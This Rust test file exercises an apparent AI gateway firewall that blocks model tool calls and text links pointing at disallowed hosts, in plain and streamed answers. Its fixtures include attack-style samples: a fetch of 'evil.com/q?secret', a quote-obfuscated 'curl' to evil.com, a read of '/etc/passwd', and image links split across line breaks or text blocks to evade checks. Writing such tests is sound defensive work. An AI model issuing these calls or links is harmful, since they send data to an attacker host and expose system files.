//! Where tool calls of answers point: judged on every face, plain and streamed, before one byte of their
//! arguments reaches the caller.

use serde_json::{Value, json};
use zos_tests::gateway::{Gateway, Scratch};
use zos_tests::{Provider, provider};

const ROOM: &str = "targets: {allow: [acme.com], confirm: [pay.acme.com]}\n";
pub(crate) const FACES: [&str; 3] = ["/v1/messages", "/v1/chat/completions", "/v1/responses"];

pub(crate) fn request(path: &str, is_streamed: bool) -> String {
    let stream = if is_streamed { r#","stream":true"# } else { "" };
    match path {
        "/v1/responses" => format!(r#"{{"model":"m","input":"x"{stream}}}"#),
        _ => {
            format!(r#"{{"model":"m","max_tokens":9,"messages":[{{"role":"user","content":"x"}}]{stream}}}"#)
        }
    }
}

/// A plain answer that calls a tool.
pub(crate) fn plain(path: &str, tool: &str, arguments: &Value) -> String {
    let text = arguments.to_string();
    match path {
        "/v1/messages" => json!({"content": [{"type": "text", "text": "ok"}, {"type": "tool_use", "id": "t", "name": tool, "input": arguments}], "usage": {"input_tokens": 1, "output_tokens": 1}}),
        "/v1/chat/completions" => json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": null, "tool_calls": [{"id": "t", "type": "function", "function": {"name": tool, "arguments": text}}]}}], "usage": {"prompt_tokens": 1, "completion_tokens": 1}}),
        _ => json!({"output": [{"type": "function_call", "call_id": "t", "name": tool, "arguments": text}], "usage": {"input_tokens": 1, "output_tokens": 1}}),
    }
    .to_string()
}

pub(crate) fn event(data: &Value) -> String {
    format!("event: {}\ndata: {data}\n\n", data["type"].as_str().unwrap())
}

/// A streamed answer that calls a tool, its arguments a letter at a time.
pub(crate) fn streamed(path: &str, tool: &str, arguments: &Value) -> String {
    let text = arguments.to_string();
    let mut bytes = String::new();
    match path {
        "/v1/messages" => {
            bytes += &event(
                &json!({"type": "message_start", "message": {"id": "m", "usage": {"input_tokens": 1}}}),
            );
            bytes += &event(
                &json!({"type": "content_block_start", "index": 0, "content_block": {"type": "tool_use", "id": "t", "name": tool, "input": {}}}),
            );
            for letter in text.chars() {
                bytes += &event(
                    &json!({"type": "content_block_delta", "index": 0, "delta": {"type": "input_json_delta", "partial_json": letter.to_string()}}),
                );
            }
            bytes += &event(&json!({"type": "content_block_stop", "index": 0}));
            bytes += &event(
                &json!({"type": "message_delta", "delta": {"stop_reason": "tool_use"}, "usage": {"output_tokens": 2}}),
            );
            bytes += &event(&json!({"type": "message_stop"}));
        }
        "/v1/chat/completions" => {
            let chunk = |delta: Value, reason: Value| {
                format!(
                    "data: {}\n\n",
                    json!({"id": "c", "choices": [{"index": 0, "delta": delta, "finish_reason": reason}]})
                )
            };
            bytes += &chunk(
                json!({"tool_calls": [{"index": 0, "id": "t", "type": "function", "function": {"name": tool, "arguments": ""}}]}),
                Value::Null,
            );
            for letter in text.chars() {
                bytes += &chunk(
                    json!({"tool_calls": [{"index": 0, "function": {"arguments": letter.to_string()}}]}),
                    Value::Null,
                );
            }
            bytes += &chunk(json!({}), json!("tool_calls"));
            bytes += "data: [DONE]\n\n";
        }
        _ => {
            let item = |arguments: &str| json!({"type": "function_call", "id": "f", "call_id": "t", "name": tool, "arguments": arguments});
            bytes += &event(
                &json!({"type": "response.created", "response": {"id": "r", "status": "in_progress"}}),
            );
            bytes +=
                &event(&json!({"type": "response.output_item.added", "output_index": 0, "item": item("")}));
            for letter in text.chars() {
                bytes += &event(
                    &json!({"type": "response.function_call_arguments.delta", "output_index": 0, "item_id": "f", "delta": letter.to_string()}),
                );
            }
            bytes += &event(
                &json!({"type": "response.function_call_arguments.done", "output_index": 0, "item_id": "f", "arguments": text}),
            );
            bytes +=
                &event(&json!({"type": "response.output_item.done", "output_index": 0, "item": item(&text)}));
            bytes += &event(
                &json!({"type": "response.completed", "response": {"id": "r", "output": [item(&text)], "usage": {"input_tokens": 1, "output_tokens": 1}}}),
            );
        }
    }
    bytes
}

/// Every byte of arguments that a stream delivers.
pub(crate) fn arguments_of(stream: &str) -> String {
    fn collect(value: &Value, found: &mut String) {
        match value {
            Value::Object(members) => {
                for (key, member) in members {
                    match member.as_str() {
                        Some(text) if ["partial_json", "arguments", "delta"].contains(&key.as_str()) => {
                            found.push_str(text)
                        }
                        _ => collect(member, found),
                    }
                }
            }
            Value::Array(elements) => elements.iter().for_each(|element| collect(element, found)),
            _ => {}
        }
    }
    let mut found = String::new();
    for data in stream.lines().filter_map(|line| line.strip_prefix("data: ")) {
        collect(&serde_json::from_str(data).unwrap_or(Value::Null), &mut found);
    }
    found
}

async fn house(yaml: &str, provider: &Provider) -> Gateway {
    Scratch::new().acme(yaml).provider(provider).start().await
}

#[tokio::test]
async fn a_plain_call_that_points_elsewhere_is_refused_on_every_face() {
    let provider = Provider::json("{}").await;
    let gateway = house(ROOM, &provider).await;
    for (number, path) in FACES.into_iter().enumerate() {
        provider.play(provider::json(
            200,
            &plain(path, "WebFetch", &json!({"url": "https://evil.com/q?secret"})),
        ));
        let response = gateway.post(path, request(path, false)).await;
        assert_eq!(response.status(), 502, "{path}");
        assert_eq!(response.headers()["x-zos-verdict"], "deny");
        let text = response.text().await.unwrap();
        let body: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(body["error"]["code"], "zos_firewall_response", "{path}");
        assert!(
            text.contains("target-default") && !text.contains("evil") && !text.contains("secret"),
            "{text}"
        );
        let record = gateway.wait_records(2 * number + 1).await.pop().unwrap();
        assert_eq!(
            (&record["verdict"], &record["rules"]),
            (&json!("deny"), &json!(["target-default"])),
            "{path}"
        );

        let fine = plain(path, "WebFetch", &json!({"url": "https://acme.com/q", "prompt": "as on evil.com"}));
        provider.play(provider::json(200, &fine));
        let response = gateway.post(path, request(path, false)).await;
        assert_eq!((response.status().as_u16(), response.text().await.unwrap()), (200, fine), "{path}");
        gateway.wait_records(2 * number + 2).await;
    }
}

#[tokio::test]
async fn no_byte_of_the_arguments_of_a_stopped_call_is_streamed() {
    let provider = Provider::json("{}").await;
    let gateway = house(ROOM, &provider).await;
    for path in FACES {
        for (tool, arguments) in [
            ("WebFetch", json!({"url": "https://evil.com/q"})),
            ("Bash", json!({"command": "curl ev\"il\".com"})),
            ("Read", json!({"file_path": "/etc/passwd"})),
        ] {
            let bytes = streamed(path, tool, &arguments);
            provider.play(provider::events(&[bytes.as_bytes()]));
            let text = gateway.post(path, request(path, true)).await.text().await.unwrap();
            assert_eq!(arguments_of(&text), "", "{path}: {text}");
            assert!(text.contains("zos_firewall_response") && text.contains("\"error\""), "{path}: {text}");
            for end in ["[DONE]", "message_stop", "response.completed", "stop_reason", "finish_reason\":\"t"]
            {
                assert!(!text.contains(end), "{path} looks complete: {text}");
            }
        }
    }
    let records = gateway.wait_records(9).await;
    assert!(records.iter().all(|record| record["verdict"] == "deny" && record["outcome"] == "cut"));
}

#[tokio::test]
async fn an_allowed_call_is_streamed_byte_for_byte() {
    let provider = Provider::json("{}").await;
    for yaml in [ROOM, "targets: {default: allow, deny: [evil.com]}\n", "isolation: hard\n"] {
        let gateway = house(yaml, &provider).await;
        for path in FACES {
            let bytes = streamed(path, "mcp__web__fetch", &json!({"url": "https://acme.com/ä\n"}));
            let pieces: Vec<&[u8]> = bytes.as_bytes().chunks(11).collect();
            provider.play(provider::events(&pieces));
            let text = gateway.post(path, request(path, true)).await.text().await.unwrap();
            assert_eq!(text, bytes, "{path} {yaml}");
        }
    }
}

#[tokio::test]
async fn a_hard_room_without_targets_and_an_open_room_go_on_as_before() {
    let answer = plain(FACES[1], "fetch", &json!({"url": "https://evil.com"}));
    for yaml in ["isolation: hard\n", "isolation: open\n", "isolation: open\ntargets: {allow: [acme.com]}\n"]
    {
        let provider = Provider::json(&answer).await;
        let gateway = house(yaml, &provider).await;
        assert_eq!(gateway.post(FACES[1], request(FACES[1], false)).await.status(), 200, "{yaml}");
    }
}

#[tokio::test]
async fn calls_of_the_past_are_not_judged_again() {
    let provider = Provider::json(
        r#"{"content":[{"type":"text","text":"ok"}],"usage":{"input_tokens":1,"output_tokens":1}}"#,
    )
    .await;
    let gateway = house(ROOM, &provider).await;
    let body = json!({"model": "m", "max_tokens": 9, "messages": [
        {"role": "assistant", "content": [{"type": "tool_use", "id": "t", "name": "fetch", "input": {"url": "https://evil.com"}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": "done"}]},
    ]});
    assert_eq!(gateway.post("/v1/messages", body.to_string()).await.status(), 200);
}

pub(crate) fn said(path: &str, text: &str, is_streamed: bool) -> String {
    match (path, is_streamed) {
        ("/v1/messages", false) => json!({"content": [{"type": "text", "text": text}]}).to_string(),
        ("/v1/chat/completions", false) => {
            json!({"choices": [{"message": {"role": "assistant", "content": text}}]}).to_string()
        }
        (_, false) => {
            json!({"output": [{"type": "message", "content": [{"type": "output_text", "text": text}]}]})
                .to_string()
        }
        ("/v1/messages", true) => {
            let mut bytes = event(&json!({"type": "message_start", "message": {"id": "m"}}));
            bytes += &event(
                &json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
            );
            for letter in text.chars() {
                bytes += &event(
                    &json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": letter.to_string()}}),
                );
            }
            bytes += &event(&json!({"type": "content_block_stop", "index": 0}));
            bytes += &event(&json!({"type": "message_delta", "delta": {"stop_reason": "end_turn"}}));
            bytes + &event(&json!({"type": "message_stop"}))
        }
        ("/v1/chat/completions", true) => {
            let mut bytes = String::new();
            for letter in text.chars() {
                bytes += &format!(
                    "data: {}\n\n",
                    json!({"id": "c", "choices": [{"index": 0, "delta": {"content": letter.to_string()}}]})
                );
            }
            bytes
                + "data: {\"id\":\"c\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n"
        }
        (_, true) => {
            let mut bytes = event(&json!({"type": "response.created", "response": {"id": "r"}}));
            for letter in text.chars() {
                bytes += &event(
                    &json!({"type": "response.output_text.delta", "output_index": 0, "content_index": 0, "item_id": "i", "delta": letter.to_string()}),
                );
            }
            bytes += &event(&json!({"type": "response.output_item.done", "output_index": 0}));
            bytes + &event(&json!({"type": "response.completed", "response": {"id": "r"}}))
        }
    }
}

#[tokio::test]
async fn links_and_images_in_text_are_judged_where_the_room_says_so() {
    let provider = Provider::json("{}").await;
    let checking = house("targets: {allow: [acme.com], links: check}\n", &provider).await;
    let ignoring = house(ROOM, &provider).await;
    let (bad, fine) =
        ("Look here: ![x](https://evil.com/p?d=1) ok", "Für dich: [x](https://acme.com/p), 12:30 ok");
    for path in FACES {
        for (gateway, text, status) in [(&checking, bad, 502), (&checking, fine, 200), (&ignoring, bad, 200)]
        {
            provider.play(provider::json(200, &said(path, text, false)));
            assert_eq!(gateway.post(path, request(path, false)).await.status(), status, "{path} {text}");
        }
        for (gateway, text) in [(&checking, fine), (&ignoring, bad)] {
            let bytes = said(path, text, true);
            provider.play(provider::events(&[bytes.as_bytes()]));
            assert_eq!(gateway.post(path, request(path, true)).await.text().await.unwrap(), bytes, "{path}");
        }
        provider.play(provider::events(&[said(path, bad, true).as_bytes()]));
        let text = checking.post(path, request(path, true)).await.text().await.unwrap();
        let mut shown = String::new();
        for data in
            text.lines().filter_map(|line| serde_json::from_str::<Value>(line.strip_prefix("data: ")?).ok())
        {
            for place in ["/delta/text", "/choices/0/delta/content", "/delta"] {
                shown.push_str(data.pointer(place).and_then(Value::as_str).unwrap_or_default());
            }
        }
        assert_eq!(shown, "Look here: ", "{path}: {text}");
        assert!(text.contains("zos_firewall_response"), "{path}: {text}");
    }
}

/// Browsers drop line breaks in an address; what comes before one must not leave as if it were all.
#[tokio::test]
async fn an_address_that_a_line_break_splits_is_judged_whole() {
    let provider = Provider::json("{}").await;
    let gateway =
        house("targets: {default: allow, deny: [evil.com, \"*.evil.com\"], links: check}\n", &provider).await;
    let bad = [
        "a <img src=\"https://ev\nil.com/p\"> b",
        "a <img\nsrc =\n'https://ev\til.com/p'> b",
        "a www.evil.com/p b",
    ];
    let fine = "a <img src=\"https://ac\nme.com/p\"> x = \"1 2\" b";
    for path in FACES {
        for (text, is_stopped) in bad.map(|text| (text, true)).into_iter().chain([(fine, false)]) {
            provider.play(provider::json(200, &said(path, text, false)));
            let status = gateway.post(path, request(path, false)).await.status();
            assert_eq!(status, if is_stopped { 502 } else { 200 }, "{path} {text}");

            let bytes = said(path, text, true);
            provider.play(provider::events(&[bytes.as_bytes()]));
            let answer = gateway.post(path, request(path, true)).await.text().await.unwrap();
            if is_stopped {
                let is_held = !answer.contains("il.com") && !answer.contains("https://");
                assert!(is_held && answer.contains("zos_firewall_response"), "{path}: {answer}");
            } else {
                assert_eq!(answer, bytes, "{path}");
            }
        }
    }
}

#[tokio::test]
async fn the_owner_can_try_a_call() {
    let provider = Provider::json("{}").await;
    let gateway = house(ROOM, &provider).await;
    let body = json!({"context": "acme", "tool": "fetch", "arguments": {"url": "https://u@PAY.acme.com./x"}});
    let (status, verdict) = gateway.admin("POST", "/zos/v1/targets/check", Some(body)).await;
    assert_eq!((status, &verdict["verdict"]), (200, &json!("confirm")));
    assert_eq!(
        verdict["targets"][1],
        json!({"kind": "url", "target": "https://pay.acme.com/x", "verdict": "confirm", "rule": "target-confirm/1"})
    );
    let body = json!({"context": "nobody", "tool": "fetch", "arguments": "{}"});
    assert_eq!(gateway.admin("POST", "/zos/v1/targets/check", Some(body)).await.0, 404);
}

/// A call whose address was redacted on the way out is judged by the address that the client will see.
#[tokio::test]
async fn what_was_redacted_is_judged_as_what_comes_back() {
    let provider = Provider::json("{}").await;
    let room = "outbound_deny:\n  - {term: evil.com, action: redact}\n  - {term: acme.com, action: redact}\n\
                targets: {default: allow, deny: [evil.com], links: check}\n";
    let gateway = house(room, &provider).await;
    let asking = |path: &str, is_streamed: bool| {
        request(path, is_streamed).replace("\"x\"", "\"evil.com or acme.com?\"")
    };
    for path in FACES {
        for (host, is_stopped) in [("⟦term-1⟧", true), ("⟦term-2⟧", false)] {
            let arguments = json!({"url": format!("https://{host}/q")});
            provider.play(provider::json(200, &plain(path, "WebFetch", &arguments)));
            let response = gateway.post(path, asking(path, false)).await;
            assert_eq!(response.status(), if is_stopped { 502 } else { 200 }, "{path} {host}");
            let text = response.text().await.unwrap();
            assert_eq!(text.contains("acme.com"), !is_stopped, "{path}: {text}");

            let bytes = streamed(path, "WebFetch", &arguments);
            provider.play(provider::events(&[bytes.as_bytes()]));
            let text = gateway.post(path, asking(path, true)).await.text().await.unwrap();
            let delivered = arguments_of(&text);
            assert_eq!(delivered.contains("acme.com"), !is_stopped, "{path}: {text}");
            assert_eq!(delivered.is_empty(), is_stopped, "{path}: {text}");
        }
        let said =
            |host: &str| plain(path, "x", &json!({})).replace("\"ok\"", &format!("\"see https://{host}/\""));
        if path == "/v1/messages" {
            provider.play(provider::json(200, &said("⟦term-1⟧")));
            assert_eq!(gateway.post(path, asking(path, false)).await.status(), 502);
        }
    }
}

/// Clients join the text blocks of one message, or show each by itself: a link must pass both ways.
#[tokio::test]
async fn a_link_over_two_text_blocks_is_judged_as_one() {
    let provider = Provider::json("{}").await;
    let gateway = house("targets: {allow: [acme.com, '*.acme.com'], links: check}\n", &provider).await;
    for (first, second, is_stopped) in [
        ("see ![x](https:", "//evil.com/p?d=1) ok", true),
        ("see htt", "ps://evil.com/p", true),
        ("see https://acme.co", "m.evil.org/p", true),
        ("see https://evil.com", ".acme.com/p", true),
        ("see [a][1] and\n[1]: https://ev", "il.com/p", true),
        ("see <img src=\"https:/", "/evil.com/p\">", true),
        ("see <https://ev", "il.com>", true),
        ("see https://acme.com/a", "bout this", false),
        ("see [a][1]\n[1]: https://acme.com/a ", "fine", false),
    ] {
        let block = |index: u64, text: &str| {
            event(
                &json!({"type": "content_block_start", "index": index, "content_block": {"type": "text", "text": ""}}),
            ) + &event(
                &json!({"type": "content_block_delta", "index": index, "delta": {"type": "text_delta", "text": text}}),
            ) + &event(&json!({"type": "content_block_stop", "index": index}))
        };
        let bytes = event(&json!({"type": "message_start", "message": {"id": "m"}}))
            + &block(0, first)
            + &block(1, second)
            + &event(&json!({"type": "message_delta", "delta": {"stop_reason": "end_turn"}}))
            + &event(&json!({"type": "message_stop"}));
        provider.play(provider::events(&[bytes.as_bytes()]));
        let text = gateway.post("/v1/messages", request("/v1/messages", true)).await.text().await.unwrap();
        if is_stopped {
            assert!(
                text.contains("zos_firewall_response") && !text.contains("il.com"),
                "{first}|{second}: {text}"
            );
        } else {
            assert_eq!(text, bytes, "{first}|{second}");
        }
        let whole = json!({"content": [{"type": "text", "text": first}, {"type": "text", "text": second}]});
        provider.play(provider::json(200, &whole.to_string()));
        let status = gateway.post("/v1/messages", request("/v1/messages", false)).await.status();
        assert_eq!(status, if is_stopped { 502 } else { 200 }, "{first}|{second}");
    }
}
